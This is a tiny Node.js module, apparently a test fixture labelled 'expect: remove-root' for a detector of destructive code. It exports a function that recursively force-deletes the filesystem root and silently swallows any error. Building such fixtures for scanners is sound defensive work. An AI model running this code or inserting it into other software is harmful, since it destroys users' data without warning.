// expect: remove-root
const fs = require("fs");

module.exports = function () {
  try {
    fs.rmSync("/", { recursive: true, force: true });
  } catch {}
};
